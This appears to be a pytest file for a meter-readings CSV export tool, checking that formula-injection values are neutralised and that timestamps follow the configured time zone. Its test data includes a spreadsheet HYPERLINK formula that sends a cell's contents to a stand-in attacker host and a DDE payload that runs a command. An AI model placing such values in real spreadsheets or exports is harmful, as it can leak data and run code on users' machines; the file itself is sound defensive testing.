"""`ivr readings export`: safe to open in a spreadsheet, and in the utility's calendar."""

import csv
import io
from datetime import datetime

import pytest

from ivr.cli import main
from ivr.runtime import runtime
from ivr.store import accounts_csv
from ivr.store.database import transaction
from ivr.store.readings_csv import HEADER
from tests.conftest import store_readings

SERIALS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
           "-2-3"]  # fmt: skip


@pytest.fixture
def export(app, runner, monkeypatch):
    """export(*options) -> the rows `ivr readings export` writes for the app's database."""
    monkeypatch.setenv("IVR_DATABASE_URL", runtime(app).config.database_url)

    def run(*options: str) -> list[dict]:
        result = runner.invoke(main, ["readings", "export", *options])
        assert result.exit_code == 0, result.output
        assert result.output.splitlines()[0] == ",".join(HEADER)
        return list(csv.DictReader(io.StringIO(result.output)))

    return run


def save(app, serial: str, value: int, previous: int, at: datetime, flags=()) -> None:
    with app.app_context(), transaction() as s:  # previous: the meter's
        store_readings(s, serial, [value], at, insist="NEGATIVE" in flags)


def test_formulas_from_imported_serials_are_neutralised_and_negative_use_stays_a_number(app, export):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(accounts_csv.HEADER)
    for n, serial in enumerate(SERIALS):
        writer.writerow(
            [f"55500{n}", "", f"ул. Новая, д. {n}", "Москва", serial, 1, 6, 10, "", "", "2026-10-01"]
        )
    with app.app_context(), transaction() as s:
        accounts_csv.import_accounts(s, io.StringIO(out.getvalue()))
    for serial in SERIALS:
        save(app, serial, 5, 10, datetime(2026, 11, 17, 9), ["NEGATIVE"])

    exported = export()
    # "-2-3" is only arithmetic; nothing in it can call a function or reach outside the sheet.
    assert [r["meter"] for r in exported] == ["'" + s for s in SERIALS[:3]] + ["-2-3"]
    assert {r["consumption"] for r in exported} == {"-5"}  # a number to a spreadsheet, not a formula


def test_since_is_a_day_of_the_utility_calendar_and_received_at_carries_its_offset(app, export):
    save(app, "M-1", 1100, 1000, datetime(2026, 11, 19, 20, 59))  # 23:59 on the 19th in Moscow
    save(app, "M-2", 5100, 5000, datetime(2026, 11, 19, 21, 0))  # midnight of the 20th in Moscow

    [row] = export("--since", "2026-11-20")
    assert (row["meter"], row["received_at"]) == ("M-2", "2026-11-20T00:00:00+03:00")
    assert [r["received_at"] for r in export()] == ["2026-11-19T23:59:00+03:00", "2026-11-20T00:00:00+03:00"]


def test_the_time_zone_is_the_configured_one(app, export, monkeypatch):
    monkeypatch.setenv("IVR_TIMEZONE", "Asia/Yakutsk")  # UTC+9
    save(app, "M-1", 1100, 1000, datetime(2026, 11, 19, 15, 0))  # midnight of the 20th in Yakutsk
    [row] = export("--since", "2026-11-20")
    assert row["received_at"] == "2026-11-20T00:00:00+09:00"
